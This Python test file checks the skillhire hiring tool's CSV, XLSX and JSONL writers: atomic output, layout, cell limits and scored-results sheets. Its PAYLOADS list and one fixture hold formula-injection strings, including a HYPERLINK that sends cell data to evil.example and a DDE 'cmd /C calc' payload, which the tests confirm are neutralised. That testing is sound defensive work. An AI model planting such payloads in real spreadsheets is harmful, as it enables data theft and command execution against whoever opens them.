"""Writers: no cell runs as a formula, writes are atomic, nothing is lost, and what is written reads back."""

from __future__ import annotations

import datetime as dt
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import skillhire.workbook as workbook_module
from skillhire.errors import OutputExistsError, SkillhireError, UnknownNameError
from skillhire.safety import neutralise_csv_cell
from skillhire.spreadsheets import read_rows
from skillhire.workbook import Table, atomic_output, output_format, write_tables

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "{=A1:A2}",
    "http://example.gov",
    "mailto:a@example.gov",
    "00123",
    "1e5",
]


def sheet_xml(path: Path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_every_payload_as_text(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "out.xlsx"
    write_tables([Table("Applicants", ["applicant_id", "note"], [["A-1", payload]])], path)
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml
    assert openpyxl.load_workbook(path)["Applicants"]["B2"].data_type == "s"
    assert read_rows(path, strip=False).rows[0].values == {"applicant_id": "A-1", "note": payload}


@pytest.mark.parametrize(
    "value, written",
    [
        ('=HYPERLINK("http://x","c")', '\'=HYPERLINK("http://x","c")'),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("Jane Doe", "Jane Doe"),
        ("", ""),
    ],
)
def test_neutralise_csv_cell(value: str, written: str) -> None:
    assert neutralise_csv_cell(value) == written


def test_csv_output_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [["A-1", "=1+1", -5, 2.5, True, None, dt.date(2026, 1, 2)], {"applicant_id": "A-2", "note": "-x"}]
    report = write_tables(
        [Table("Applicants", ["applicant_id", "note", "n", "f", "b", "e", "d"], rows)], path
    )
    assert report.model_dump() == {
        "format": "csv",
        "files": [str(path)],
        "rows": {"Applicants": 2},
        "truncated_cells": [],
    }
    assert path.read_text(encoding="utf-8-sig").splitlines() == [
        "applicant_id,note,n,f,b,e,d",
        "A-1,'=1+1,-5,2.5,TRUE,,2026-01-02",
        "A-2,'-x,,,,,",
    ]


def test_csv_writes_other_tables_beside_the_main_file(tmp_path: Path) -> None:
    path = tmp_path / "scored.csv"
    report = write_tables(
        [Table("Applicants", ["id"], [["A-1"]]), Table("Adverse impact", ["group"], [["x"], ["y"]])], path
    )
    assert report.files == [str(path), str(tmp_path / "scored-adverse-impact.csv")]
    assert report.rows == {"Applicants": 1, "Adverse impact": 2}
    assert (tmp_path / "scored-adverse-impact.csv").read_bytes() == b"\xef\xbb\xbfgroup\r\nx\r\ny\r\n"


def test_jsonl_output(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    write_tables(
        [
            Table("Applicants", ["id", "score", "when"], [["=1", 85.0, dt.date(2026, 1, 2)]]),
            Table("Summary", ["k"], [["v"]]),
        ],
        path,
    )
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines == [
        {"_table": "applicants", "id": "=1", "score": 85.0, "when": "2026-01-02"},
        {"_table": "summary", "k": "v"},
    ]


def test_xlsx_layout_frozen_header_filter_widths_formats(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows = [["A-1", 85.0, dt.date(2026, 1, 2)], ["A-22222", 70.25, None]]
    write_tables(
        [Table("Applicants", ["applicant_id", "score", "applied"], rows, number_formats={"score": "0.0"})],
        path,
    )
    sheet = openpyxl.load_workbook(path)["Applicants"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert [sheet.column_dimensions[c].width for c in "ABC"] == pytest.approx([14.71, 8.71, 12.71], abs=0.05)
    assert sheet["A1"].font.b is True
    assert sheet["B2"].number_format == "0.0"
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["applicant_id", "score", "applied"],
        ["A-1", 85, dt.datetime(2026, 1, 2)],
        ["A-22222", 70.25, None],
    ]


def test_long_tables_continue_on_a_second_sheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_module, "EXCEL_MAX_ROWS", 4)  # 3 data rows a sheet
    path = tmp_path / "out.xlsx"
    report = write_tables([Table("Applicants", ["id"], ([f"A-{i}"] for i in range(7)))], path)
    assert report.rows == {"Applicants": 7}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Applicants", "Applicants (2)", "Applicants (3)"]
    assert [[c.value for c in row] for row in book["Applicants (3)"].iter_rows()] == [["id"], ["A-6"]]


def test_xlsx_is_written_with_zip64_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Without ZIP64 a workbook over 4 GB (about a million applicants) fails at close with FileSizeError.
    # The small file written here must still be a plain zip that both readers open.
    import xlsxwriter

    calls: list[bool] = []
    real = xlsxwriter.Workbook.use_zip64
    monkeypatch.setattr(xlsxwriter.Workbook, "use_zip64", lambda self: calls.append(True) or real(self))
    path = tmp_path / "out.xlsx"
    write_tables([Table("Applicants", ["id"], [["A-1"]])], path)
    assert calls == [True]
    assert zipfile.is_zipfile(path)
    assert [row for row in read_rows(path)] and openpyxl.load_workbook(path)["Applicants"]["A2"].value == "A-1"


def test_text_past_excels_cell_limit_is_cut_only_in_xlsx_and_reported(tmp_path: Path) -> None:
    text = "word " * 8000
    report = write_tables([Table("Applicants", ["id", "resume"], [["A-1", text]])], tmp_path / "out.xlsx")
    assert report.truncated_cells == ["Applicants!B2 (40,000 characters)"]
    assert read_rows(tmp_path / "out.xlsx", strip=False).rows[0]["resume"] == text[:32_767]
    write_tables([Table("Applicants", ["id", "resume"], [["A-1", text]])], tmp_path / "out.jsonl")
    assert json.loads((tmp_path / "out.jsonl").read_text())["resume"] == text


@pytest.mark.parametrize(
    "text, kept",
    [
        ("\U0001F600" * 20_000, "\U0001F600" * 16_383),  # 40,000 UTF-16 units: Excel counts an emoji as 2
        ("a" + "\U0001F600" * 16_383, "a" + "\U0001F600" * 16_383),  # exactly 32,767 units: kept whole
        ("ab" + "\U0001F600" * 16_383, "ab" + "\U0001F600" * 16_382),  # one over: never half an emoji
    ],
)
def test_cell_limit_counts_utf16_units_and_keeps_the_rest_of_the_row(tmp_path: Path, text: str, kept: str) -> None:
    path = tmp_path / "out.xlsx"
    report = write_tables([Table("Applicants", ["id", "resume", "status"], [["A-1", text, "eligible"]])], path)
    assert report.truncated_cells == ([] if kept == text else [f"Applicants!B2 ({len(text):,} characters)"])
    row = read_rows(path, strip=False).rows[0]
    assert (row["id"], row["resume"], row["status"]) == ("A-1", kept, "eligible")


@pytest.mark.parametrize(
    "name, fmt, expected",
    [
        ("a.xlsx", None, "xlsx"),
        ("a.CSV", None, "csv"),
        ("a.jsonl", None, "jsonl"),
        ("a.ndjson", None, "jsonl"),
        ("a.out", "csv", "csv"),
        ("a.xlsx", "JSONL", "jsonl"),
    ],
)
def test_output_format(name: str, fmt: str | None, expected: str) -> None:
    assert output_format(name, fmt) == expected


def test_output_format_errors() -> None:
    with pytest.raises(UnknownNameError, match=r"No output format 'parquet'. Available: csv, jsonl, xlsx"):
        output_format("a.xlsx", "parquet")
    with pytest.raises(UnknownNameError) as caught:
        output_format("a.xls")
    assert str(caught.value) == (
        "No output format for the file suffix '.xls'. Did you mean '.xlsx'? Available: .csv, .jsonl, .ndjson, "
        ".xlsx; or choose one with format= (--format)"
    )


# ---------------------------------------------------------------------------------------------- atomic


def test_existing_output_is_refused_then_replaced_with_overwrite(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"old")
    table = Table("Applicants", ["id"], [["A-1"]])
    with pytest.raises(OutputExistsError) as caught:
        write_tables([table], path)
    assert str(caught.value) == f"{path}: already exists; pass overwrite=True (--overwrite) to replace it"
    assert path.read_bytes() == b"old"
    write_tables([Table("Applicants", ["id"], [["A-1"]])], path, overwrite=True)
    assert read_rows(path).rows[0].values == {"id": "A-1"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]


def test_csv_refuses_before_writing_any_file_when_a_sibling_exists(tmp_path: Path) -> None:
    (tmp_path / "out-summary.csv").write_text("keep")
    with pytest.raises(OutputExistsError):
        write_tables(
            [Table("Applicants", ["id"], [["A-1"]]), Table("Summary", ["k"], [])], tmp_path / "out.csv"
        )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out-summary.csv"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".jsonl"])
def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    path.write_bytes(b"old")

    def rows():
        yield ["A-1"]
        raise RuntimeError("scoring failed half way")

    with pytest.raises(RuntimeError, match="half way"):
        write_tables([Table("Applicants", ["id"], rows())], path, overwrite=True)
    assert path.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]


def test_atomic_output_checks_the_folder(tmp_path: Path) -> None:
    with pytest.raises(SkillhireError, match="does not exist"), atomic_output(tmp_path / "no" / "x.csv"):
        pass
    with pytest.raises(SkillhireError, match="is a folder"), atomic_output(tmp_path):
        pass


def test_written_files_have_ordinary_permissions(tmp_path: Path) -> None:
    import os

    write_tables([Table("A", ["id"], [["A-1"]])], tmp_path / "out.csv")
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o666 & ~umask


# ------------------------------------------------------------------------------------------- round trip

_text = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=30).filter(
    lambda s: s.strip() == s and s
)
_value = st.one_of(
    st.none(),
    _text,
    st.sampled_from(PAYLOADS),
    st.integers(min_value=-(2**53) + 1, max_value=2**53 - 1),
    st.floats(allow_nan=False, allow_infinity=False, width=64).filter(lambda f: abs(f) < 1e300),
    st.booleans(),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(_value, min_size=3, max_size=3), min_size=0, max_size=6))
def test_what_is_written_to_xlsx_reads_back_unchanged(tmp_path: Path, rows: list[list[object]]) -> None:
    path = tmp_path / "round.xlsx"
    columns = ["applicant_id", "note", "value"]
    tagged = [[f"A-{i}", *row[1:]] for i, row in enumerate(rows)]  # an id keeps every row non-blank
    write_tables([Table("Applicants", columns, tagged)], path, overwrite=True)
    result = read_rows(path, strip=False)
    assert result.headers == {c: c for c in columns}
    # xlsxwriter writes numbers with 16 significant digits (Excel shows 15): floats compare to that precision
    assert [r.values for r in result.rows] == [
        {c: pytest.approx(v, rel=1e-15) if isinstance(v, float) else v for c, v in zip(columns, row)}
        for row in tagged
    ]
    assert [r.row for r in result.rows] == list(range(2, len(tagged) + 2))


def _archive_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:  # docProps/core.xml holds the creation time
        return {name: archive.read(name) for name in archive.namelist() if name != "docProps/core.xml"}


_ODD_TEXTS = [
    "plain", " leading space", "trailing space ", "\tTab", "line\nbreak", "a & b < c > d \" e", "_x0041_ literal",
    "ctrl \x01\x1f here", "\ufffe\uffff", "<r>looks rich</r>", "<r>", "Muñoz 日本 😀", "=1+1", "", "x" * 40_000,
]  # fmt: skip


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(st.one_of(_value, st.sampled_from(_ODD_TEXTS)), min_size=4, max_size=4), max_size=8))
@example(
    rows=[
        ["", "", None, dt.date(2026, 1, 2)],
        [True, 1.5, "x" * 40_000, ""],
        [None, None, None, None],
        ["é" * 20_000, False, 2**60, dt.datetime(2026, 1, 2, 3, 4)],
        [" a ", 0, "<r>x</r>", "_x0041_\x01"],
    ]
)
def test_fast_worksheet_writes_the_same_bytes_as_xlsxwriter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows: list[list[object]]
) -> None:
    from xlsxwriter.worksheet import Worksheet

    columns = ["id", "score", "note", "when"]
    repeated = [*rows, *rows, *rows]  # the same texts again: kept once seen twice, then served from the cache

    def write(name: str) -> dict[str, bytes]:
        tables = [
            Table("Applicants", columns, repeated, number_formats={"score": "0.0", "when": "yyyy-mm-dd"}),
            Table("Other", ["a", "b"], [[1, "x"], [None, " y "]]),
        ]
        write_tables(tables, tmp_path / name, overwrite=True)
        return _archive_parts(tmp_path / name)

    fast = write("fast.xlsx")
    monkeypatch.setattr(workbook_module, "_fast_worksheet_class", lambda: Worksheet)
    assert write("stock.xlsx") == fast


def test_fast_worksheet_keeps_only_repeated_texts_and_forgets_them_when_done(tmp_path: Path) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(tmp_path / "cache.xlsx"), {"constant_memory": True})
    sheet = book.add_worksheet("S", worksheet_class=workbook_module._fast_worksheet_class())
    for row in range(6):
        sheet._write_values(row, [f"A-{row}", "same reason"], {})
    sheet._write_values(6, ["end", "x"], {})  # flushes row 5
    # the ids are unique: only their hashes are remembered; the reason, seen twice, is kept escaped
    assert sheet._text_xml == {0: {}, 1: {"same reason": ' t="inlineStr"><is><t>same reason</t></is></c>'}}
    assert sheet._text_seen == {0: {hash(f"A-{row}") for row in range(6)}, 1: {hash("same reason")}}
    sheet._forget_texts()
    assert (sheet._text_xml, sheet._text_seen) == ({}, {})
    book.close()


def test_an_unknown_xlsxwriter_gets_the_stock_worksheet(monkeypatch: pytest.MonkeyPatch) -> None:
    import xlsxwriter
    from xlsxwriter.worksheet import Worksheet

    assert workbook_module._fast_worksheet_class() is not Worksheet
    monkeypatch.setattr(xlsxwriter, "__version__", "4.0.0")
    assert workbook_module._fast_worksheet_class() is Worksheet
    monkeypatch.setattr(xlsxwriter, "__version__", "3.9.0")
    monkeypatch.delattr(Worksheet, "_write_single_row")
    assert workbook_module._fast_worksheet_class() is Worksheet


def test_fast_worksheet_matches_xlsxwriter_on_column_and_row_formats(tmp_path: Path) -> None:
    # The last row is flushed at close, after set_column: its unformatted cells take the column format.
    import xlsxwriter
    from xlsxwriter.worksheet import Worksheet

    def write(name: str, worksheet_class: type) -> dict[str, bytes]:
        book = xlsxwriter.Workbook(str(tmp_path / name), {"constant_memory": True})
        sheet = book.add_worksheet("S", worksheet_class=worksheet_class)
        bold = book.add_format({"bold": True})
        for row in range(4):
            sheet.write_row(row, 0, [f"A-{row}", row * 1.5, "reason", True, None, dt.date(2026, 1, row + 1)])
        sheet.set_row(2, 30)  # a row with its own height: xlsxwriter's own path
        sheet.write_rich_string(4, 0, "plain ", bold, "bold")
        sheet.write_row(5, 0, ["last", 2.5, "reason"])
        sheet.set_column(1, 2, 12, book.add_format({"num_format": "0.0"}))
        book.close()
        return _archive_parts(tmp_path / name)

    assert write("fast.xlsx", workbook_module._fast_worksheet_class()) == write("stock.xlsx", Worksheet)


# ------------------------------------------------------------------------------------ write_results


def small_pool(tmp_path: Path) -> tuple[Path, Path]:
    """Applicants and ratings as CSV files: an eligible CPS, a failed applicant, a bad row, a bad rating."""
    from tests.scoring_fixtures import applicant, interview, passing, resume_votes

    applicants = [
        applicant("A1", "CPS", sex="F"),
        applicant("A2", "NV", sex="M"),
        applicant("A3", "ZZ", sex="F"),  # unknown preference code: rejected
        applicant("A4", "TP", sex="M") | {"first_name": '=HYPERLINK("http://evil.example","x")'},
    ]
    ratings = (
        passing("A1", 2, 2)
        + resume_votes("A2", "DNMF DNMF")
        + passing("A4", 1, 2)
        + [{"applicant_id": "A1", "hurdle": "interview_9", "competency": "", "rater": "sme9", "rating": 1}]
        + interview("A2", 1)[:0]
    )
    import csv

    paths = []
    for name, rows in (("applicants.csv", applicants), ("ratings.csv", ratings)):
        columns = list(dict.fromkeys(key for row in rows for key in row))
        with open(tmp_path / name, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, columns)
            writer.writeheader()
            writer.writerows(rows)
        paths.append(tmp_path / name)
    return paths[0], paths[1]


@pytest.fixture
def scored(tmp_path: Path):
    from skillhire import score_pool

    applicants_path, ratings_path = small_pool(tmp_path)
    rows = read_rows(applicants_path)
    return score_pool(applicants_path, ratings_path, "smeqa-standard"), rows


def test_write_results_sheets_and_applicants(tmp_path: Path, scored) -> None:
    from skillhire import write_results
    from skillhire.safety import file_sha256

    result, rows = scored
    path = tmp_path / "scored.xlsx"
    report = write_results(result, path, applicants=rows)
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == [
        "Summary", "Applicants", "Cert GS-13 (announcing agency)", "Cert GS-14 (announcing agency)",
        "Cert GS-15 (announcing agency)", "Rejected rows", "Adverse impact", "Rater agreement", "Audit",
    ]  # fmt: skip
    book.close()
    assert report.rows["Applicants"] == 4
    applicants = read_rows(path, sheet="Applicants")
    assert [
        (r["row"], r["applicant_id"], r["veterans_preference"], r["status"], r["category"], r["score"])
        for r in applicants.rows
    ] == [
        (2, "A1", "CPS", "eligible", "Best Qualified", 100),
        (3, "A2", "NV", "failed", None, None),
        (4, "A3", "ZZ", "rejected", None, None),
        (5, "A4", "TP", "eligible", "Well Qualified", 85),
    ]
    assert applicants.rows[3]["first_name"] == '=HYPERLINK("http://evil.example","x")'  # text, unchanged
    assert "<f>" not in sheet_xml(path, 2)
    assert applicants.rows[2]["reasons"].startswith("row 4, column 'veterans_preference': ")
    assert applicants.rows[1]["reasons"].startswith("resume_review: Resume review failed")
    certificate = read_rows(path, sheet="Cert GS-13 (announcing agency)")
    # Best Qualified holds one name, fewer than 3: merged with the next category (5 U.S.C. 3319(c)(1))
    assert [
        (r["position"], r["applicant_id"], r["category"], r["earned_category"], r["preference"])
        for r in certificate.rows
    ] == [
        (1, "A1", "Best Qualified", "Best Qualified", "CPS"),
        (2, "A4", "Well Qualified", "Well Qualified", "TP"),
    ]
    rejected = read_rows(path, sheet="Rejected rows")
    assert [(r["input"], r["row"], r["column"]) for r in rejected.rows] == [
        ("applicants.csv", 4, "veterans_preference"),
        ("ratings.csv", 30, "hurdle"),
    ]
    summary = {r["item"]: r["value"] for r in read_rows(path, sheet="Summary").rows}
    assert (
        summary["applicants: rows read"],
        summary["applicants: rows scored"],
        summary["applicants: rows rejected"],
    ) == (4, 3, 1)
    assert (
        summary["ratings: rows read"],
        summary["ratings: rows scored"],
        summary["ratings: rows rejected"],
    ) == (29, 28, 1)
    assert summary["certificates written"] == 3
    assert (
        summary["certificate GS-13 (announcing agency)"]
        == "2 referred from Best Qualified, Well Qualified (categories merged)"
    )
    assert summary["certificate GS-14 (announcing agency)"].startswith("0 referred")
    audit = {r["item"]: r["value"] for r in read_rows(path, sheet="Audit").rows}
    assert audit["input applicants sha256"] == file_sha256(tmp_path / "applicants.csv")
    assert audit["input ratings sha256"] == file_sha256(tmp_path / "ratings.csv")
    assert audit["assessment sha256"] == result.assessment.fingerprint()
    assert {"written at (UTC)", "skillhire version", "xlsxwriter version", "setting rating_method"} <= set(
        audit
    )
    impact = read_rows(path, sheet="Adverse impact")
    assert {(r["by"], r["hurdle"]) for r in impact.rows} >= {("sex", "overall"), ("sex", "resume_review")}


def test_rows_read_equal_rows_scored_plus_rejected_in_every_output(tmp_path: Path, scored) -> None:
    from skillhire import write_results

    result, rows = scored
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"out{suffix}"
        write_results(result, path, applicants=rows)
        applicants = read_rows(path, sheet="Applicants")
        counts = result.row_counts["applicants"]
        assert counts.rows_in == counts.scored + counts.rejected == applicants.counts.rows_read == 4
    import csv

    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert (table[0][2], table[4][2]) == (
        "first_name",
        '\'=HYPERLINK("http://evil.example","x")',
    )  # neutralised
    assert sorted(p.name for p in tmp_path.glob("out*")) == [
        "out-adverse-impact.csv", "out-audit.csv", "out-certificate-gs-13-announcing-agency.csv",
        "out-certificate-gs-14-announcing-agency.csv", "out-certificate-gs-15-announcing-agency.csv",
        "out-rater-agreement.csv", "out-rejected-rows.csv", "out-summary.csv", "out.csv", "out.xlsx",
    ]  # fmt: skip


def test_write_results_jsonl_and_evidence_sheet(tmp_path: Path, scored) -> None:
    from skillhire import write_results

    result, _ = scored
    path = tmp_path / "out.jsonl"
    evidence = {"A1": {"customer-research": ["ran 40 customer interviews"]}}
    report = write_results(result, path, evidence=evidence)
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [r for r in records if r["_table"] == "sme-evidence"] == [
        {"_table": "sme-evidence", "applicant_id": "A1", "competency": "customer-research",
         "evidence": "ran 40 customer interviews"}
    ]  # fmt: skip
    assert sum(1 for r in records if r["_table"] == "applicants") == report.rows["Applicants"] == 4
    assert {r["status"] for r in records if r["_table"] == "applicants"} == {"eligible", "failed", "rejected"}


def test_write_results_adverse_impact_column_must_exist(tmp_path: Path, scored) -> None:
    from skillhire import write_results

    result, _ = scored
    with pytest.raises(
        UnknownNameError, match=r"No applicant column for adverse impact 'race'. Available: sex"
    ):
        write_results(result, tmp_path / "out.xlsx", adverse_impact_by=["race"])
    assert not (tmp_path / "out.xlsx").exists()


def test_write_results_refuses_an_existing_output(tmp_path: Path, scored) -> None:
    from skillhire import write_results

    result, _ = scored
    (tmp_path / "out.xlsx").write_bytes(b"keep")
    with pytest.raises(OutputExistsError):
        write_results(result, tmp_path / "out.xlsx")
    assert (tmp_path / "out.xlsx").read_bytes() == b"keep"


@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(seed=st.integers(min_value=0, max_value=10_000), messy=st.integers(min_value=0, max_value=6))
def test_every_synthetic_applicant_row_is_written_once(tmp_path: Path, seed: int, messy: int) -> None:
    from skillhire import generate_pool, score_pool, write_results

    applicants, ratings = generate_pool(n_applicants=25, seed=seed, messy_rows=messy)
    result = score_pool(applicants, ratings, "smeqa-standard")
    path = tmp_path / "prop.xlsx"
    write_results(result, path, overwrite=True)
    written = read_rows(path, sheet="Applicants")
    counts = result.row_counts["applicants"]
    assert written.counts.rows_read == counts.rows_in == counts.scored + counts.rejected
    statuses = [row["status"] for row in written.rows]
    assert statuses.count("rejected") == counts.rejected
    assert sorted(row["row"] for row in written.rows) == [row["row"] for row in written.rows]
